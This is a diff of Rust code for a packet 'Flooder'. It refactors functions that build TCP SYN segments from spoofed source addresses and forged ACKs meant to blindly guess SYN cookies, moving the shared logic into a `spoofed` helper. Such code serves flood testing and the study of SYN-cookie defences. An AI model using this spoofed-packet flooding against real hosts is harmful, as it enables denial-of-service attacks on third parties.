@@ -362,7 +362,6 @@ impl Flooder {
 /// sequence number `seq` and acknowledgment number `ack`: a blind guess at a SYN cookie
 /// (a Linux client's window, timestamps on).
 pub fn forged_ack(i: u32, seq: u32, ack: u32, dst: SocketAddr, buf: &mut Vec<u8>) {
-    let src = flood_source(i);
     let options = TcpOptions {
         timestamps: Some(Timestamps {
             tsval: seq.rotate_left(7),
@@ -370,31 +369,12 @@ pub fn forged_ack(i: u32, seq: u32, ack: u32, dst: SocketAddr, buf: &mut Vec<u8>
         }),
         ..TcpOptions::default()
     };
-    let tcp = TcpRepr {
-        src_port: src.port(),
-        dst_port: dst.port(),
-        seq: SeqNumber(seq),
-        ack: SeqNumber(ack),
-        flags: TcpFlags::ACK,
-        window: 502,
-        urgent: 0,
-        options,
-        payload: &[],
-    };
-    let ip = IpRepr {
-        src: src.ip(),
-        dst: dst.ip(),
-        hop_limit: 64,
-    };
-    buf.clear();
-    buf.resize(packet_len(&ip, &tcp), 0);
-    let _ = emit_packet(&ip, &tcp, buf);
+    spoofed(i, dst, (seq, ack), TcpFlags::ACK, 502, options, buf);
 }
 
 /// Write into `buf` the SYN of spoofed source `i` ([`flood_source`]) to `dst`: a Linux
 /// client's SYN (window 64240; MSS 1460, SACK-permitted, timestamps, window scale 7).
 pub fn spoofed_syn(i: u32, isn: u32, dst: SocketAddr, buf: &mut Vec<u8>) {
-    let src = flood_source(i);
     let options = TcpOptions {
         mss: Some(1460),
         sack_permitted: true,
@@ -405,13 +385,27 @@ pub fn spoofed_syn(i: u32, isn: u32, dst: SocketAddr, buf: &mut Vec<u8>) {
         window_scale: Some(7),
         ..TcpOptions::default()
     };
+    spoofed(i, dst, (isn, 0), TcpFlags::SYN, 64240, options, buf);
+}
+
+/// A segment without payload from spoofed source `i` to `dst`.
+fn spoofed(
+    i: u32,
+    dst: SocketAddr,
+    (seq, ack): (u32, u32),
+    flags: TcpFlags,
+    window: u16,
+    options: TcpOptions,
+    buf: &mut Vec<u8>,
+) {
+    let src = flood_source(i);
     let tcp = TcpRepr {
         src_port: src.port(),
         dst_port: dst.port(),
-        seq: SeqNumber(isn),
-        ack: SeqNumber(0),
-        flags: TcpFlags::SYN,
-        window: 64240,
+        seq: SeqNumber(seq),
+        ack: SeqNumber(ack),
+        flags,
+        window,
         urgent: 0,
         options,
         payload: &[],
